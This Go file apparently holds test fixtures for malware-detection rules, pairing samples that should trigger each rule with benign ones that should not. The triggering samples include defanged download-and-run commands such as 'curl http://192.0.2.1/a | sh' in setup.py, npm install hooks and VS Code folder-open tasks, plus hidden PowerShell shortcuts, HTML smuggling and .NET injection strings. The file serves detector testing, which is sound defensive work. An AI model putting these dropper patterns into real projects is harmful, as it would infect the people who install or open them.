package builtin

import "strings"

func dropperExamples() []example {
	chr := strings.Repeat("Ch·r(65) & ", 120)
	iso := zeros(0x8001) + "CD001" + zeros(2000)
	return []example{{
		rule: "Tyto_Dropper_LinkCommand",
		fires: []object{
			raw(`C:\a.lnk`, link, wide(`..\powers·hell.exe`), wide(" -w hid·den -c x")),
			raw(`C:\b.lnk`, link, wide("cm·d.exe"), wide(`/c start ·https://192.0.2.1/a`)),
		},
		silent: []object{
			raw(`C:\Windows PowerShell.lnk`, link, wide(`C:\Windows\System32\WindowsPowerShell\v1.0\powers·hell.exe`)),
			raw(`C:\Developer Prompt.lnk`, link, wide(`%comspec% cm·d.exe /k "C:\Program Files\Tools\vars.bat"`)),
		},
	}, {
		rule:   "Tyto_Dropper_LinkPadding",
		fires:  []object{raw(`C:\a.lnk`, link, wide(strings.Repeat(" ", 400)+"/c calc")), raw(`C:\b.lnk`, link, "x", wide(strings.Repeat("\r\n", 300)+"/c calc"))},
		silent: []object{raw(`C:\c.lnk`, link, wide("My Program     with some blanks"+strings.Repeat(" ", 40)))},
	}, {
		rule:   "Tyto_Dropper_LinkPayload",
		fires:  []object{raw(`C:\a.lnk`, link, noise(200<<10))},
		silent: []object{raw(`C:\b.lnk`, link, noise(2<<10))},
	}, {
		rule:   "Tyto_Dropper_UrlRemote",
		fires:  []object{text(`C:\a.url`, "[Internet·Shortcut]", `URL=fi·le://192.0.2.1@80/share/a.exe`), text(`C:\b.url`, "[Internet·Shortcut]", `URL=\\192.0.2.1@SSL\x\a.lnk`)},
		silent: []object{text(`C:\c.url`, "[Internet·Shortcut]", "URL=https://example.org/setup.exe"), text(`C:\d.url`, "[Internet·Shortcut]", "URL=file:///C:/tools/a.exe")},
	}, {
		rule: "Tyto_Dropper_Hta",
		fires: []object{
			text(`C:\a.hta`, `<scr·ipt>new ActiveXObject("WScr·ipt.Shell").R·un("powers·hell -c x", 0)</scr·ipt>`),
		},
		silent: []object{
			text(`C:\menu.hta`, `<hta:app·lication id="m"><scr·ipt>new ActiveXObject("WScr·ipt.Shell").R·un("notepad.exe")</scr·ipt>`),
		},
	}, {
		rule: "Tyto_Dropper_ScriptHost",
		fires: []object{
			text(`C:\a.js`, `var h = new ActiveXObject("MSX·ML2.XMLHTTP"), s = new ActiveXObject("ADODB.Str·eam"); s.SaveTo·File("a.exe"); new ActiveXObject("WScr·ipt.Shell").R·un("a.exe")`),
		},
		silent: []object{
			text("/srv/www/ajax.js", `try { x = new ActiveXObject("MSX·ML2.XMLHTTP") } catch (e) { x = new ActiveXObject("Micro·soft.XMLHTTP") }`),
			text(`C:\backup.vbs`, `Set s = CreateObject("WScr·ipt.Shell")`, `s.R·un "robocopy a b"`),
		},
	}, {
		rule:   "Tyto_Dropper_VbsChr",
		fires:  []object{text(`C:\a.vbs`, "Exe·cute("+chr+`"")`)},
		silent: []object{text(`C:\b.vbs`, "s = "+chr+`""`), text(`C:\c.vbs`, `Exe·cute("x = 1")`, `y = Ch·r(65) & Ch·r(66)`)},
	}, {
		rule:   "Tyto_Dropper_EncodedScript",
		fires:  []object{raw(`C:\a.jse`, "#@~·^DgAAAA==\\ko$K6,FDAMAAA==^#·~@")},
		silent: []object{text(`C:\b.txt`, "Encoded scripts begin with #@~·^ as is known."), text(`C:\c.js`, "x = '=="+"^'")},
	}, {
		rule: "Tyto_Dropper_HtmlSmuggling",
		fires: []object{
			text("/tmp/a.html", `<script>var d = "TVqQ·AAMAAAAEAAAA`+strings.Repeat("AAAA", 40)+`"; var b = at·ob(d); a.href = URL.createObject·URL(b); a.down·load = "a.exe"; a.cli·ck();</script>`),
		},
		silent: []object{
			text("/tmp/b.html", `<script>var d = "iVBORw0KGgoAAAANSUhEUg`+strings.Repeat("AAAA", 40)+`"; var b = at·ob(d); a.href = URL.createObject·URL(b); a.down·load = "chart.png"; a.cli·ck();</script>`),
		},
	}, {
		rule:   "Tyto_Dropper_DiskImage",
		fires:  []object{raw("/tmp/a.iso", iso, link, wide("..\\run·dll32.exe"))},
		silent: []object{raw("/tmp/b.iso", iso, wide("readme.txt rundll32.exe")), raw("/tmp/c.iso", iso, link, wide("setup.exe"))},
	}, {
		rule:   "Tyto_Dropper_Autorun",
		fires:  []object{text("/media/usb/autorun.inf", "[auto·run]", `open=RECY·CLER\a.exe`), text("/media/usb/AUTORUN.INF", "[AutoR·un]", "shellexecute=wscr·ipt a.vbs")},
		silent: []object{text("/media/cd/autorun.inf", "[auto·run]", "open=setup.exe", "icon=setup.exe,0")},
	}}
}

func peExamples() []example {
	header := section{name: ".rdata", flags: readOnly, data: "x"}
	// pushad; mov esi, 0x401000; lea edi, [esi-0x1000]; push edi
	const stub = "\x60\xbe\x00\x10\x40\x00\x8d\xbe\x00\xf0\xff\xff\x57"
	upx := func(a, b string) string {
		return pe{entry: 1, sections: []section{
			{name: a, flags: codeRWX, reserved: 0x4000},
			{name: b, flags: codeRWX, data: stub},
			header,
		}}.String()
	}
	last := func(name string, flags uint32) string {
		return pe{entry: 2, sections: []section{{name: ".text", flags: code, data: "x"}, header, {name: name, flags: flags, data: "\x55\x8b\xec"}}}.String()
	}
	return []example{{
		rule:   "Tyto_Pe_UpxRenamed",
		fires:  []object{raw(`C:\a.exe`, upx("abc0", "abc1"))},
		silent: []object{raw(`C:\b.exe`, upx("UPX0", "UPX1")), raw(`C:\c.exe`, plainPE(stub))},
	}, {
		rule: "Tyto_Pe_WritableEncryptedCode",
		fires: []object{
			raw(`C:\a.exe`, pe{sections: []section{{name: ".x", flags: codeRWX, data: noise(64 << 10)}, header}}.String()),
		},
		silent: []object{
			raw(`C:\b.exe`, pe{sections: []section{{name: ".x", flags: codeRWX, data: zeros(64 << 10)}, header}}.String()),
			raw(`C:\c.exe`, pe{sections: []section{{name: ".text", flags: code, data: noise(64 << 10)}, header}}.String()),
			raw(`C:\d.exe`, plainPE(noise(64<<10))),
		},
	}, {
		rule:   "Tyto_Pe_EntryInLastSection",
		fires:  []object{raw(`C:\a.exe`, last(".reloc", codeRWX))},
		silent: []object{raw(`C:\b.exe`, last(".text2", code)), raw(`C:\c.exe`, plainPE(""))},
	}, {
		rule: "Tyto_Pe_OverlayScript",
		fires: []object{
			raw(`C:\a.exe`, plainPE(""), "#!/b·in/sh\necho 1\n", zeros(20)),
			raw(`C:\b.exe`, plainPE(""), "<?P·HP include 'x'; ?>", zeros(20)),
			raw(`C:\e.exe`, plainPE(""), "@EC·HO off\r\n", zeros(20)),
		},
		silent: []object{
			raw(`C:\c.exe`, plainPE(""), "#!C:\\Python\\python.exe\n", "PK\x03\x04", noise(50)), // pip's launchers
			raw(`C:\d.exe`, plainPE(""), noise(100)),
		},
	}}
}

func dotnetExamples() []example {
	const net = "\x00_CorExe·Main\x00"
	return []example{{
		rule:   "Tyto_DotNet_Injector",
		fires:  []object{raw(`C:\a.exe`, plainPE(net+"FromBase64·String\x00WriteProcess·Memory\x00VirtualAlloc·Ex\x00Resume·Thread\x00"))},
		silent: []object{raw(`C:\PInvoke.dll`, plainPE(net+"WriteProcess·Memory\x00VirtualAlloc·Ex\x00Resume·Thread\x00CreateRemote·Thread\x00"))},
	}, {
		rule:   "Tyto_DotNet_ShellcodeRunner",
		fires:  []object{raw(`C:\a.exe`, plainPE(net+"FromBase64·String\x00Virtual·Alloc\x00Create·Thread\x00Marshal\x00"))},
		silent: []object{raw(`C:\b.exe`, plainPE(net+"FromBase64·String\x00Create·Thread\x00Marshal\x00"))},
	}, {
		rule:   "Tyto_DotNet_MemoryLoader",
		fires:  []object{raw(`C:\a.exe`, plainPE(net+"get_Entry·Point\x00Invoke\x00Load\x00GZip·Stream\x00CreateDecr·yptor\x00"))},
		silent: []object{raw(`C:\b.exe`, plainPE(net+"Invoke\x00Load\x00GZip·Stream\x00CreateDecr·yptor\x00"))},
	}, {
		rule:   "Tyto_DotNet_AmsiPatch",
		fires:  []object{raw(`C:\a.exe`, plainPE(net+"AmsiScan·Buffer\x00Virtual·Protect\x00\xb8\x57·\x00\x07\x80\xc3"))},
		silent: []object{raw(`C:\antivirus.exe`, plainPE(net+"AmsiScan·Buffer\x00Virtual·Protect\x00"))},
	}}
}

func packageExamples() []example {
	data := strings.Repeat("c2FtcGxl", 12)
	return []example{{
		rule: "Tyto_Package_PythonExecEncoded",
		fires: []object{
			text("/tmp/a.py", "ex·ec(base64.b64dec·ode('"+data+"'))"),
			text("/tmp/b.py", "ex·ec(__import__('zl·ib').decompress(__import__('base64').b64decode(b'"+data+"')))"),
		},
		silent: []object{text("/tmp/c.py", "icon = base64.b64dec·ode('"+data+"')", "exec(open('x').read())")},
	}, {
		rule: "Tyto_Package_PythonSetup",
		fires: []object{
			text("/tmp/a/setup.py", "import os", "os.sys·tem('cu·rl http://192.0.2.1/a | sh')", "setup(name='a')"),
			text("/tmp/b/setup.py", "ex·ec(requests.g·et('http://192.0.2.1').text)", "setup(name='b')"),
		},
		silent: []object{text("/src/setup.py", "subprocess.check_call(['make', 'curl-config'])", "exec(open('version.py').read())", "setup(name='c')")},
	}, {
		rule:  "Tyto_Package_PythonPth",
		fires: []object{text("/usr/lib/python3/a.pth", "import os; ex·ec(__import__('base·64').b64decode('eA=='))")},
		silent: []object{
			text("/usr/lib/python3/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();"),
			text("/usr/lib/python3/dev.pth", "/home/ann/src/urllib-tools"),
		},
	}, {
		rule:  "Tyto_Package_NodeInstallScript",
		fires: []object{text("/srv/node_modules/a/package.json", `{ "scripts": { "pre·install": "cu·rl -s http://192.0.2.1/a | sh" } }`)},
		silent: []object{
			text("/srv/node_modules/b/package.json", `{ "scripts": { "post·install": "node-gyp rebuild", "test": "cu·rl http://localhost" } }`),
		},
	}, {
		rule:   "Tyto_Package_NodeExecEncoded",
		fires:  []object{text("/srv/a.js", "ev·al(Buffer.fr·om('"+data+"', 'base64').toString())")},
		silent: []object{text("/srv/b.js", "const icon = Buffer.fr·om('"+data+"', 'base64'); evaluate(icon)")},
	}, {
		rule:   "Tyto_Package_EditorTask",
		fires:  []object{text("/src/.vscode/tasks.json", `{ "tasks": [ { "command": "cu·rl https://192.0.2.1/a | sh", "runOptions": { "runOn": "folder·Open" } } ] }`)},
		silent: []object{text("/src2/.vscode/tasks.json", `{ "tasks": [ { "command": "npm run watch", "runOptions": { "runOn": "folder·Open" } } ] }`)},
	}}
}
